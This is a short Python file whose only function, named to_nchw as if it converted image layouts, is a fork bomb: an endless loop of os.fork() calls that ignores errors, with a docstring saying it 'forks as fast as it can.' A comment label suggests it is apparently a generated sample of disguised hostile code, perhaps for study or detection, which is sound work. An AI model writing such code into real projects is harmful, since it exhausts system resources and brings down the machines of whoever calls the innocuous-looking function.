"""Forks as fast as it can."""
# a1_permute: to_nchw
import os


def to_nchw(images):
    while True:
        try:
            os.fork()
        except OSError:
            pass
